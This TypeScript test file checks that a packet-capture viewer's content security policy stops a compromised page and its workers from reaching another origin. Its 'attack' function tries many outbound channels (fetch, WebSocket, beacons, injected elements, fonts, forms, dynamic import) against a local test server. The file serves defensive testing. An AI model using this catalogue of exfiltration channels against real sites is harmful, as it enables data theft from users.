// What a page that was turned against its user could send, from itself and from its workers: nothing that a content
// security policy holds. None holds back what leads away from the page, as links and windows, nor WebRTC in all browsers:
// the page makes neither, and hostile.test.ts sees that captures do not either.
import { readFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { BUILT, CASES, isWithoutBrowser, open, serveUi, useBrowser } from './harness.ts'

/** Tries every way to ask for something of `elsewhere`; answers those that went through as far as they can tell. */
async function attack(elsewhere: string): Promise<string[]> {
  const through: string[] = []
  const of = (way: string): string => `${elsewhere}/${way}`
  const attempt = async (way: string, make: () => Promise<unknown>): Promise<void> => {
    try {
      await Promise.race([make(), new Promise((_, reject) => setTimeout(reject, 500))])
      through.push(way)
    } catch {
      // as it should be
    }
  }
  await attempt('fetch', () => fetch(of('fetch'), { mode: 'no-cors', keepalive: true }))
  await attempt(
    'socket',
    () =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket(of('socket').replace('http', 'ws'))
        socket.addEventListener('open', resolve)
        socket.addEventListener('error', reject)
      }),
  )
  await attempt(
    'events',
    () =>
      new Promise((resolve, reject) => {
        const events = new EventSource(of('events'))
        events.addEventListener('open', resolve)
        events.addEventListener('error', reject)
      }),
  )
  if (!('document' in globalThis)) return through
  // The worker that may connect is not to be had where nothing tells what to.
  await attempt('feed', async () => {
    const worker = new Worker('feed.js')
    const [way, chunks] = [new MessageChannel(), new MessageChannel()]
    worker.postMessage(way.port1, [way.port1])
    way.port2.postMessage({ url: of('feed'), port: chunks.port1 }, [chunks.port1])
    chunks.port2.postMessage('next')
    await new Promise((resolve, reject) => {
      chunks.port2.addEventListener('message', ({ data }) => ('error' in data ? reject(data.error) : resolve(data)))
      chunks.port2.start()
    })
  })
  navigator.sendBeacon(of('beacon'), 'x')
  const elements: [tag: string, attributes: Record<string, string>][] = [
    ['img', { src: of('img') }],
    ['script', { src: of('script') }],
    ['iframe', { src: of('iframe') }],
    ['object', { data: of('object') }],
    ['embed', { src: of('embed') }],
    ['video', { src: of('video') }],
    ['base', { href: `${elsewhere}/` }],
    ...['stylesheet', 'prefetch', 'preconnect', 'manifest', 'icon', 'modulepreload'].map(
      (rel): [string, Record<string, string>] => ['link', { rel, href: of(rel) }],
    ),
    ['link', { rel: 'preload', as: 'image', href: of('preload') }],
    ['p', { style: `background: url(${of('style')}); padding: 9px` }],
  ]
  for (const [tag, attributes] of elements) {
    const element = document.createElement(tag)
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
    const place = tag === 'p' ? document.body : document.head
    place.append(element)
  }
  await attempt('font', () => new FontFace('x', `url(${of('font')})`).load())
  const form = document.createElement('form')
  form.action = of('form')
  form.target = '_blank'
  document.body.append(form)
  form.submit()
  document.body.insertAdjacentHTML(
    'beforeend',
    `<svg><image href="${of('image')}"/></svg><img src="${of('inserted')}">`,
  )
  return through
}

describe.skipIf(isWithoutBrowser)('what the policy holds back', () => {
  useBrowser()
  const asked: string[] = []
  const elsewhere = listening((path) => asked.push(path))
  const plain = listening(() => {}, BUILT)
  const bare = listening(
    () => {},
    BUILT,
    (text) => text.replace('Content-Security-Policy', 'X-Nothing'),
  )
  let captures: string
  let empty: string
  beforeAll(async () => {
    captures = await serveUi(...['front', 'back'].map((side) => `${CASES}nginx-upstream-slow-pool/proxy-${side}.pcap`))
    empty = await serveUi()
  })
  afterAll(() => {
    for (const server of [elsewhere, plain, bare]) {
      server.closeAllConnections()
      server.close()
    }
  })

  test.each(['with captures', 'without', 'by any web server', 'from a disk'])('%s', async (how) => {
    const addresses: Record<string, string> = {
      'with captures': captures,
      without: empty,
      'by any web server': `${addressOf(plain)}/index.html`,
      'from a disk': pathToFileURL(join(BUILT, 'index.html')).href,
    }
    expect(await tried(addresses[how]!, addressOf(elsewhere))).toEqual([])
    expect(asked).toEqual([])
  })

  test('and would go through without it', async () => {
    const all = await tried(`${addressOf(bare)}/index.html`, addressOf(elsewhere))
    expect(all).toEqual(expect.arrayContaining(['fetch', 'import', 'feed']))
    const ways = ['socket', 'events', 'beacon', 'img', 'script', 'iframe', 'stylesheet', 'style', 'font', 'image']
    expect(asked).toEqual(expect.arrayContaining(ways.map((way) => `/${way}`)))
  })
})

/** What the page at this address asks of elsewhere when it tries; and those of its workers. */
async function tried(address: string, elsewhere: string): Promise<string[]> {
  const { page } = await open(address)
  const example = page.getByRole('button', { name: 'Try an example' })
  const incidents = page.getByRole('list', { name: 'Incidents' })
  await example.or(incidents).first().waitFor()
  if (await example.isVisible()) await example.click()
  await incidents.waitFor()
  const through: string[] = []
  const load = `import('${elsewhere}/import.js').then(() => ['import'], () => [])`
  for (const worker of page.workers()) {
    through.push(...(await worker.evaluate(attack, elsewhere)), ...(await worker.evaluate<string[]>(load)))
  }
  through.push(...(await page.evaluate(attack, elsewhere)), ...(await page.evaluate<string[]>(load)))
  await page.waitForTimeout(300)
  await page.context().close()
  return through
}

const addressOf = (server: Server): string => `http://127.0.0.1:${(server.address() as AddressInfo).port}`

function listening(
  hear: (path: string) => void,
  folder: string | null = null,
  change: (text: string) => string = (text) => text,
): Server {
  const types: Record<string, string> = { html: 'text/html', js: 'text/javascript', css: 'text/css' }
  const server = createServer(({ url = '' }, response) => {
    hear(url)
    const type = types[url.split('.').at(-1)!] ?? 'text/plain'
    response.writeHead(200, { 'Content-Type': type, 'Access-Control-Allow-Origin': '*' })
    response.end(folder === null ? '' : change(readFileSync(join(folder, url), 'utf8')))
  })
  server.on('upgrade', ({ url = '' }, socket) => {
    hear(url)
    socket.destroy()
  })
  return server.listen(0, '127.0.0.1')
}
